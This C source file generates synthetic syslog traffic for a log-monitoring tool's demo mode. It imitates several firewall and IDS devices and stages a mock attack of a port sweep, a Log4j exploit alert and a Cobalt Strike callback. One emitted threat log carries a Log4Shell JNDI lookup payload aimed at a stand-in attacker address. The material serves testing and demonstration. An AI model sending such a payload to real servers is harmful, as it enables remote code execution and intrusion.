/* serve_demo: demo traffic for `yamori serve --demo` (see serve_demo.h). */
#include "cli/serve_demo.h"

#include <errno.h>
#include <netdb.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "core/ym_alloc.h"
#include "core/ym_log.h"

#define TICK_MS 100
#define BUF_BYTES 65536

struct demo_device {
    const char *name; /* also its syslog HOSTNAME */
    const char *kind;
};

static const struct demo_device demo_devices[] = {
    {"demo-asa", "asa"},
    {"demo-pa", "panos"},
    {"demo-nsm", "nsp"},
    {"demo-nx", "fireeye"},
};
#define DEMO_DEVICES (sizeof demo_devices / sizeof demo_devices[0])

struct scenario {
    int64_t start_s;     /* wall clock of step 0; 0 = none running */
    int step;            /* next step to send */
    unsigned attacker;   /* 203.0.113.x */
    unsigned target;     /* 10.20.1.x */
    unsigned c2;         /* 198.51.100.x */
    unsigned swept;      /* hosts denied so far */
};

struct serve_demo {
    pthread_t thread;
    atomic_int stop;
    char host[256];
    char port[16];
    struct serve_demo_options opt;
    uint64_t rng;
    int fd;
    uint32_t conn_id;
    uint64_t serial;
    unsigned scenarios;
    struct scenario sc;
    int64_t next_attack_s;
    size_t len;
    char buf[BUF_BYTES];
};

/* ---- configuration ---- */

static int device_named(const struct ym_config *cfg, const char *name)
{
    for (size_t i = 0; i < cfg->device_count; i++)
        if (!strcmp(cfg->devices[i].name, name))
            return 1;
    return 0;
}

void serve_demo_configure(struct ym_config *cfg)
{
    if (!ym_config_tenant(cfg, SERVE_DEMO_TENANT)) {
        cfg->tenants = ym_xrealloc(cfg->tenants, (cfg->tenant_count + 1) * sizeof *cfg->tenants);
        struct ym_tenant_config *t = &cfg->tenants[cfg->tenant_count++];
        memset(t, 0, sizeof *t);
        t->name = ym_xstrdup(SERVE_DEMO_TENANT);
        t->display_name = ym_xstrdup("Demo Corp (generated traffic)");
        t->language = ym_xstrdup("en");
        t->timezone = ym_xstrdup("");
        /* the defaults of a configured tenant (docs/configuration.md) */
        t->notify_mode[0] = YM_NOTIFY_IMMEDIATE;
        t->notify_mode[1] = YM_NOTIFY_IMMEDIATE;
        t->notify_mode[2] = YM_NOTIFY_REPORT;
        t->notify_mode[3] = YM_NOTIFY_REPORT;
        t->digest_interval_minutes = 60;
    }
    for (size_t i = 0; i < DEMO_DEVICES; i++) {
        if (device_named(cfg, demo_devices[i].name))
            continue;
        cfg->devices = ym_xrealloc(cfg->devices, (cfg->device_count + 1) * sizeof *cfg->devices);
        struct ym_device_config *d = &cfg->devices[cfg->device_count++];
        memset(d, 0, sizeof *d);
        d->name = ym_xstrdup(demo_devices[i].name);
        d->tenant = ym_xstrdup(SERVE_DEMO_TENANT);
        d->kind = ym_xstrdup(demo_devices[i].kind);
        d->timezone = ym_xstrdup("");
        d->hostnames = ym_xmalloc(sizeof *d->hostnames);
        d->hostnames[0] = ym_xstrdup(demo_devices[i].name);
        d->hostname_count = 1;
    }
}

/* ---- output ---- */

static uint32_t rnd(struct serve_demo *d, uint32_t n) /* 0..n-1 */
{
    d->rng ^= d->rng << 13;
    d->rng ^= d->rng >> 7;
    d->rng ^= d->rng << 17;
    return n ? (uint32_t)((d->rng >> 11) % n) : 0;
}

static void flush_out(struct serve_demo *d)
{
    size_t off = 0;
    while (d->fd >= 0 && off < d->len) {
        ssize_t n = send(d->fd, d->buf + off, d->len - off, MSG_NOSIGNAL);
        if (n > 0) {
            off += (size_t)n;
        } else if (n < 0 && errno == EINTR) {
            continue;
        } else {
            /* A line cut in the middle would break the framing: start over
             * on a new connection; this tick's logs are lost. */
            YM_LOG_RATELIMITED(YM_LOG_WARN, "demo: sending to %s:%s failed (%s); reconnecting",
                               d->host, d->port, n < 0 ? strerror(errno) : "closed");
            close(d->fd);
            d->fd = -1;
        }
    }
    d->len = 0;
}

static void emit(struct serve_demo *d, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void emit(struct serve_demo *d, const char *fmt, ...)
{
    for (int attempt = 0; attempt < 2; attempt++) {
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(d->buf + d->len, sizeof d->buf - d->len, fmt, ap);
        va_end(ap);
        if (n < 0)
            return;
        if ((size_t)n + 1 < sizeof d->buf - d->len) {
            d->len += (size_t)n;
            d->buf[d->len++] = '\n';
            return;
        }
        flush_out(d); /* did not fit: send what is there and retry once */
    }
}

static const char *const months[12] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

struct stamp {
    /* sized for any int the compiler can imagine in each field */
    char asa[80];   /* "Nov 22 2026 07:01:00" */
    char bsd[80];   /* "Nov 22 07:01:00" */
    char panos[80]; /* "2026/11/22 07:01:00" */
    char iso[80];   /* "2026-11-22 07:01:00" */
    char rfc[96];   /* "2026-11-22T07:01:00.000000+0000" */
};

static void stamp_now(struct stamp *s, time_t now)
{
    struct tm tm;
    gmtime_r(&now, &tm);
    int y = tm.tm_year + 1900, mo = tm.tm_mon + 1;
    const char *mon = months[tm.tm_mon % 12];
    snprintf(s->asa, sizeof s->asa, "%s %02d %04d %02d:%02d:%02d", mon, tm.tm_mday, y, tm.tm_hour,
             tm.tm_min, tm.tm_sec);
    snprintf(s->bsd, sizeof s->bsd, "%s %2d %02d:%02d:%02d", mon, tm.tm_mday, tm.tm_hour, tm.tm_min,
             tm.tm_sec);
    snprintf(s->panos, sizeof s->panos, "%04d/%02d/%02d %02d:%02d:%02d", y, mo, tm.tm_mday,
             tm.tm_hour, tm.tm_min, tm.tm_sec);
    snprintf(s->iso, sizeof s->iso, "%04d-%02d-%02d %02d:%02d:%02d", y, mo, tm.tm_mday, tm.tm_hour,
             tm.tm_min, tm.tm_sec);
    snprintf(s->rfc, sizeof s->rfc, "%04d-%02d-%02dT%02d:%02d:%02d.000000+0000", y, mo, tm.tm_mday,
             tm.tm_hour, tm.tm_min, tm.tm_sec);
}

/* ---- benign traffic ---- */

static const char *const web_apps[] = {"ssl", "web-browsing", "ms-office365", "google-base",
                                       "slack-base", "zoom"};
static const char *const users[] = {"corp\\alice", "corp\\bob", "corp\\carol", "corp\\dave",
                                    "corp\\erin", ""};
static const char *const names[] = {"www.example.com", "mail.example.org", "cdn.example.net",
                                    "updates.example.com", "api.example.org"};

static void asa_connection(struct serve_demo *d, const struct stamp *s)
{
    unsigned in = 10 + rnd(d, 240), srv = 1 + rnd(d, 250), sport = 49152 + rnd(d, 16000);
    uint32_t id = ++d->conn_id;
    if (rnd(d, 5) == 0) {
        emit(d,
             "<166>%s demo-asa : %%ASA-6-302015: Built outbound UDP connection %u for "
             "outside:192.0.2.%u/53 (192.0.2.%u/53) to inside:10.20.3.%u/%u (203.0.113.10/%u)",
             s->asa, id, srv, srv, in, sport, sport);
        emit(d,
             "<166>%s demo-asa : %%ASA-6-302016: Teardown UDP connection %u for outside:192.0.2.%u/53 "
             "to inside:10.20.3.%u/%u duration 0:00:00 bytes %u",
             s->asa, id, srv, in, sport, 60 + rnd(d, 400));
        return;
    }
    unsigned dport = rnd(d, 4) ? 443 : 80;
    emit(d,
         "<166>%s demo-asa : %%ASA-6-305011: Built dynamic TCP translation from inside:10.20.3.%u/%u "
         "to outside:203.0.113.10/%u",
         s->asa, in, sport, sport);
    emit(d,
         "<166>%s demo-asa : %%ASA-6-302013: Built outbound TCP connection %u for "
         "outside:192.0.2.%u/%u (192.0.2.%u/%u) to inside:10.20.3.%u/%u (203.0.113.10/%u)",
         s->asa, id, srv, dport, srv, dport, in, sport, sport);
    emit(d,
         "<166>%s demo-asa : %%ASA-6-302014: Teardown TCP connection %u for outside:192.0.2.%u/%u to "
         "inside:10.20.3.%u/%u duration 0:00:%02u bytes %u TCP FINs",
         s->asa, id, srv, dport, in, sport, rnd(d, 60), 500 + rnd(d, 200000));
}

static void asa_noise_deny(struct serve_demo *d, const struct stamp *s)
{
    static const unsigned ports[] = {23, 445, 3389, 22, 1433};
    emit(d,
         "<166>%s demo-asa : %%ASA-4-106023: Deny tcp src outside:198.51.100.%u/%u dst "
         "dmz:10.20.1.%u/%u by access-group \"outside_access_in\" [0x0, 0x0]",
         s->asa, 1 + rnd(d, 99), 1024 + rnd(d, 60000), 10 + rnd(d, 20), ports[rnd(d, 5)]);
}

static void panos_traffic(struct serve_demo *d, const struct stamp *s)
{
    unsigned in = 10 + rnd(d, 240), srv = 1 + rnd(d, 250), sport = 49152 + rnd(d, 16000);
    unsigned sent = 300 + rnd(d, 20000), recv = 500 + rnd(d, 400000);
    emit(d,
         "<14>%s demo-pa 1,%s,013201004321,TRAFFIC,end,2816,%s,10.20.4.%u,192.0.2.%u,203.0.113.11,"
         "192.0.2.%u,allow-web,%s,,%s,vsys1,trust,untrust,ethernet1/2,ethernet1/1,forward-all,,"
         "%u,1,%u,443,%u,443,0x400053,tcp,allow,%u,%u,%u,%u,%s,%u,business-and-economy,,%llu,0x0,"
         "10.0.0.0-10.255.255.255,United States,,%u,%u,tcp-fin,,,,,,demo-pa,from-policy,,,,,,,N/A,"
         ",,,,9a1c2d3e-0000-4a4a-9b9b-123456789abc,,,,,,,,,,,,,,",
         s->bsd, s->panos, s->panos, in, srv, srv, users[rnd(d, 6)], web_apps[rnd(d, 6)],
         48000 + rnd(d, 1000), sport, sport, sent + recv, sent, recv, 10 + rnd(d, 300), s->panos,
         rnd(d, 120), (unsigned long long)++d->serial, 5 + rnd(d, 100), 5 + rnd(d, 200));
}

static void fireeye_dns(struct serve_demo *d, const struct stamp *s)
{
    emit(d,
         "<164>%s demo-nx {\"rawmsg\":\"{\\\"timestamp\\\":\\\"%s\\\",\\\"flow_id\\\":%llu,"
         "\\\"event_type\\\":\\\"dns\\\",\\\"src_ip\\\":\\\"10.20.3.%u\\\",\\\"src_port\\\":%u,"
         "\\\"dest_ip\\\":\\\"192.0.2.53\\\",\\\"dest_port\\\":53,\\\"proto\\\":\\\"UDP\\\","
         "\\\"dns\\\":{\\\"type\\\":\\\"query\\\",\\\"id\\\":%u,\\\"rrname\\\":\\\"%s\\\","
         "\\\"rrtype\\\":\\\"A\\\",\\\"tx_id\\\":0}}\\n\",\"meta_sip4\":\"10.20.0.2\","
         "\"deviceid\":\"86066521000\",\"meta_cbname\":\"demo-nx\"}",
         s->bsd, s->rfc, (unsigned long long)++d->serial, 10 + rnd(d, 240), 49152 + rnd(d, 16000),
         rnd(d, 65536), names[rnd(d, 5)]);
}

static void nsp_policy_alert(struct serve_demo *d, const struct stamp *s)
{
    emit(d,
         "<113>%s demo-nsm SyslogAlertForwarderNSP: |%llu|Signature|%s UTC|\"P2P: BitTorrent "
         "Meta-Info Retrieving\"|0x32c020a0|Low|catch-most|Low|Demo|sensor-hq-1|3A-3B|10.20.3.%u|%u|"
         "198.51.100.%u|%u|PolicyViolation|restricted-application|Outbound|Blocked|signature|N/A|udp|",
         s->bsd, (unsigned long long)(5829360000000000000ULL + ++d->serial), s->iso, 10 + rnd(d, 240),
         20000 + rnd(d, 40000), 1 + rnd(d, 99), 6881 + rnd(d, 10));
}

static void benign(struct serve_demo *d, const struct stamp *s)
{
    uint32_t r = rnd(d, 100);
    if (r < 40)
        asa_connection(d, s);
    else if (r < 85)
        panos_traffic(d, s);
    else if (r < 98)
        fireeye_dns(d, s);
    else
        asa_noise_deny(d, s);
}

/* ---- the attack scenario ---- */

static void scenario_begin(struct serve_demo *d, int64_t now_s)
{
    d->sc = (struct scenario){.start_s = now_s,
                              .attacker = 100 + rnd(d, 150),
                              .target = 10 + rnd(d, 50),
                              .c2 = 200 + rnd(d, 50)};
    d->scenarios++;
    ym_log(YM_LOG_INFO,
           "demo: attack scenario %u: 203.0.113.%u sweeps the DMZ, exploits 10.20.1.%u, which then "
           "calls 198.51.100.%u",
           d->scenarios, d->sc.attacker, d->sc.target, d->sc.c2);
}

/* Sends what is due of the running scenario (length L = scenario_s): a
 * sweep of 30 DMZ hosts over its first 2/5 (denied by the ASA, and a
 * port-scan alert of the NSP), the exploit at 3/5 (NSP: attack successful;
 * PAN-OS: critical threat, action alert), the callback at L (FireEye
 * malware-callback; PAN-OS C2 spyware). */
static void scenario_step(struct serve_demo *d, const struct stamp *s, int64_t now_s)
{
    struct scenario *c = &d->sc;
    if (!c->start_s)
        return;
    int64_t at = now_s - c->start_s, len = d->opt.scenario_s;
    int64_t sweep_end = len * 2 / 5, exploit_at = len * 3 / 5;
    unsigned a = c->attacker, t = c->target, c2 = c->c2;
    if (c->step == 0) {
        emit(d,
             "<113>%s demo-nsm SyslogAlertForwarderNSP: |%llu|Reconnaissance|%s UTC|\"TCP: Port "
             "Scan\"|0x40012000|Low|N/A|N/A|Demo|sensor-dmz-1|1A-1B|203.0.113.%u|0|10.20.1.0|0|"
             "Reconnaissance|host-sweep|Inbound|Attack Inconclusive|threshold|N/A|tcp|",
             s->bsd, (unsigned long long)(5829360000000000000ULL + ++d->serial), s->iso, a);
        c->step = 1;
    }
    if (c->step == 1) {
        unsigned want = (unsigned)(at >= sweep_end ? 30 : 30 * (at + 1) / (sweep_end + 1));
        for (; c->swept < want; c->swept++)
            emit(d,
                 "<166>%s demo-asa : %%ASA-4-106023: Deny tcp src outside:203.0.113.%u/%u dst "
                 "dmz:10.20.1.%u/8080 by access-group \"outside_access_in\" [0x0, 0x0]",
                 s->asa, a, 40000 + rnd(d, 20000), c->swept + 1);
        if (c->swept >= 30)
            c->step = 2;
    }
    if (c->step == 2 && at >= exploit_at) {
        emit(d,
             "<113>%s demo-nsm SyslogAlertForwarderNSP: |%llu|Signature|%s UTC|\"HTTP: Apache Log4j "
             "Remote Code Execution (CVE-2021-44228)\"|0x4528f000|High|signature|High|Demo|"
             "sensor-dmz-1|1A-1B|203.0.113.%u|%u|10.20.1.%u|8080|Exploit|code-execution|Inbound|"
             "Attack Successful|signature|http|tcp|",
             s->bsd, (unsigned long long)(5829360000000000000ULL + ++d->serial), s->iso, a,
             40000 + rnd(d, 20000), t);
        emit(d,
             "<14>%s demo-pa 1,%s,013201004321,THREAT,vulnerability,2816,%s,203.0.113.%u,10.20.1.%u,"
             ",,dmz-web,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,forward-all,,48213,1,"
             "%u,8080,0,0,0x400053,tcp,alert,\"/api/login?user=${jndi:ldap://203.0.113.%u/a}\","
             "Apache Log4j Remote Code Execution Vulnerability(91991),any,critical,client-to-server,"
             "%llu,0x2000000000000000,United States,10.0.0.0-10.255.255.255,,,,,,,,,,,,,,,,,,,,demo-pa,"
             ",,,get,,,,,N/A,code-execution,AppThreat-8800-7000,,,,,,11111111-2222-4333-8444-"
             "555555555555,,,",
             s->bsd, s->panos, s->panos, a, t, 40000 + rnd(d, 20000), a,
             (unsigned long long)++d->serial);
        c->step = 3;
    }
    if (c->step == 3 && at >= len) {
        emit(d,
             "<164>%s demo-nx CEF:0|FireEye|CMS|9.0.2.936727|MC|malware-callback|10|rt=%s UTC "
             "src=10.20.1.%u spt=%u dst=198.51.100.%u dpt=443 proto=tcp act=notified cs1Label=sname "
             "cs1=Trojan.Generic.CnC dvchost=demo-nx externalId=%llu dhost=cnc.badexample.org",
             s->bsd, s->asa, t, 49152 + rnd(d, 16000), c2, (unsigned long long)++d->serial);
        emit(d,
             "<14>%s demo-pa 1,%s,013201004321,THREAT,spyware,2816,%s,10.20.1.%u,198.51.100.%u,"
             "203.0.113.10,198.51.100.%u,allow-web,,,ssl,vsys1,dmz,untrust,ethernet1/3,ethernet1/1,"
             "forward-all,,48213,1,%u,443,40001,443,0x400053,tcp,alert,,Cobalt Strike Command and "
             "Control Traffic(86247),any,critical,client-to-server,%llu,0x0,10.0.0.0-10.255.255.255,"
             "United States,,,,,,,,,,,,,,,,,,,,demo-pa,,,,,,,,,N/A,command-and-control,"
             "AppThreat-8800-7000,,,,,,11111111-2222-4333-8444-555555555556,,,",
             s->bsd, s->panos, s->panos, t, c2, c2, 49152 + rnd(d, 16000),
             (unsigned long long)++d->serial);
        c->start_s = 0; /* done */
    }
}

/* ---- thread ---- */

static void connect_listener(struct serve_demo *d)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *res = NULL;
    if (getaddrinfo(d->host, d->port, &hints, &res) != 0 || !res)
        return;
    for (struct addrinfo *ai = res; ai; ai = ai->ai_next) {
        int fd = socket(ai->ai_family, ai->ai_socktype | SOCK_CLOEXEC, ai->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) {
            /* a server pushing back must not hold up stop for long */
            struct timeval tv = {1, 0};
            setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
            d->fd = fd;
            break;
        }
        close(fd);
    }
    freeaddrinfo(res);
}

static void *demo_main(void *arg)
{
    struct serve_demo *d = arg;
    struct timespec next;
    clock_gettime(CLOCK_MONOTONIC, &next);
    int64_t last_try_s = 0, last_nsp_s = time(NULL);
    double carry = 0;
    d->next_attack_s = time(NULL) + d->opt.first_attack_s;
    while (!atomic_load(&d->stop)) {
        next.tv_nsec += TICK_MS * 1000000L;
        if (next.tv_nsec >= 1000000000L) {
            next.tv_sec++;
            next.tv_nsec -= 1000000000L;
        }
        while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL) == EINTR)
            ;
        time_t now = time(NULL);
        if (d->fd < 0) {
            if (now == last_try_s)
                continue;
            last_try_s = now;
            connect_listener(d);
            if (d->fd < 0)
                continue;
        }
        struct stamp s;
        stamp_now(&s, now);
        carry += d->opt.rate_per_s * (TICK_MS / 1000.0);
        for (; carry >= 1; carry -= 1)
            benign(d, &s);
        if (now - last_nsp_s >= 45) {
            last_nsp_s = now;
            nsp_policy_alert(d, &s);
        }
        if (now >= d->next_attack_s && !d->sc.start_s) {
            scenario_begin(d, now);
            d->next_attack_s = now + d->opt.attack_every_s;
        }
        scenario_step(d, &s, now);
        flush_out(d);
    }
    if (d->fd >= 0)
        close(d->fd);
    d->fd = -1;
    return NULL;
}

enum ym_status serve_demo_start(const struct ym_config *cfg, const struct serve_demo_options *opt,
                                struct serve_demo **out, struct ym_error *err)
{
    *out = NULL;
    if (!cfg->syslog.enabled) {
        ym_error_set(err, "", 0, 0,
                     "--demo sends its logs to the syslog listener, which is off (--syslog)");
        return YM_EINVAL;
    }
    struct serve_demo *d = ym_xcalloc(1, sizeof *d);
    d->fd = -1;
    d->opt = opt ? *opt : (struct serve_demo_options){0};
    if (d->opt.rate_per_s <= 0)
        d->opt.rate_per_s = 100;
    if (d->opt.first_attack_s <= 0)
        d->opt.first_attack_s = 20;
    if (d->opt.attack_every_s <= 0)
        d->opt.attack_every_s = 240;
    if (d->opt.scenario_s <= 0)
        d->opt.scenario_s = 25;
    const char *host = cfg->syslog.host;
    if (!host[0] || !strcmp(host, "0.0.0.0"))
        host = "127.0.0.1";
    else if (!strcmp(host, "::"))
        host = "::1";
    snprintf(d->host, sizeof d->host, "%s", host);
    snprintf(d->port, sizeof d->port, "%s", cfg->syslog.port);
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    d->rng = ((uint64_t)ts.tv_sec << 20) ^ (uint64_t)ts.tv_nsec ^ 0x9e3779b97f4a7c15ULL;
    d->conn_id = 100000 + rnd(d, 100000);
    atomic_init(&d->stop, 0);
    int rc = pthread_create(&d->thread, NULL, demo_main, d);
    if (rc != 0) {
        ym_error_set(err, "", 0, 0, "demo: cannot start its thread: %s", strerror(rc));
        free(d);
        return YM_EIO;
    }
    pthread_setname_np(d->thread, "ym-demo");
    ym_log(YM_LOG_INFO,
           "demo: sending ~%d logs/s for tenant '%s' (demo-asa, demo-pa, demo-nsm, demo-nx) to "
           "%s:%s over TCP; first attack scenario in %d s, then every %d s",
           d->opt.rate_per_s, SERVE_DEMO_TENANT, d->host, d->port, d->opt.first_attack_s,
           d->opt.attack_every_s);
    *out = d;
    return YM_OK;
}

void serve_demo_stop(struct serve_demo *d)
{
    if (!d)
        return;
    atomic_store(&d->stop, 1);
    pthread_join(d->thread, NULL);
    free(d);
}
